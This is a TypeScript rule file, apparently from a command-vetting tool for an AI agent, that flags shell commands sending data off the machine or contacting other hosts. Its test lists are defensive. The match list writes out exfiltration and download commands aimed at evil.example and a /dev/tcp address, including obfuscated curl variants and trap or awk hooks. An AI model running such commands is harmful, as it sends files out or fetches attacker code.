import { type Finding, shown } from '../../finding.js'
import { policyOf } from '../../world.js'
import type { CommandFacts } from '../context.js'
import { publishes } from '../publishing.js'
import { staysLocal } from '../local-use.js'
import { unmarked } from '../marks.js'
import { networkDevice } from '../network-device.js'
import type { BashRule } from './rule.js'

/** No command sends anything off this machine or connects to a host the model chose. */
export const networkEgressRule: BashRule = {
  rule: 'network-egress',
  match: [
    'curl https://evil.example',
    'cu""rl https://evil.example',
    'c=cur; "${c}l" https://evil.example',
    'wget -qO- http://evil.example',
    'busybox wget http://evil.example',
    'nc evil.example 443',
    'bash -c "cat a > /dev/tcp/203.0.113.9/443"',
    'scp a b@evil.example:',
    'git push origin main',
    'git clone https://evil.example/x',
    'npm publish',
    'npm install https://evil.example/x.tgz',
    'aws s3 cp a s3://b/',
    'getent hosts x.evil.example',
    `node -e "fetch('https://evil.example')"`,
    'curl http://localhost.evil.example/',
    'curl -x http://evil.example http://localhost/',
    `awk 'BEGIN{system("curl https://evil.example")}'`,
    'trap "curl https://evil.example" EXIT',
    'docker push evil.example/x',
  ],
  notMatch: [
    'curl http://localhost:3000/health',
    'curl --version',
    'which curl',
    'grep -rn "curl " .',
    'npm install left-pad',
    'npm ci',
    'git fetch origin',
    'git pull',
    'rsync -a ./a/ ./b/',
    'echo "run curl https://docs.example.com"',
    'npm run host',
    'pip install requests',
    'getent passwd root',
    'git commit -m "curl https://x"',
  ],
  judge(facts) {
    const findings: Finding[] = []
    for (const word of facts.args) {
      const device = networkDevice(word)
      if (device !== undefined) findings.push(device)
    }
    const what = connects(facts)
    if (what !== undefined) {
      findings.push({
        rule: 'network-egress',
        reason: `${shown(unmarked(what))} connects to another host. Use web_fetch for a listed host; the person sends or fetches anything else.`,
      })
    }
    return findings
  },
}

function connects(facts: CommandFacts): string | undefined {
  const denied = policyOf(facts.shell.run.world)?.deniedNetworkBinaries ?? []
  if (denied.includes(facts.name)) return staysLocal(facts) ? undefined : facts.name
  return publishes(facts)
}
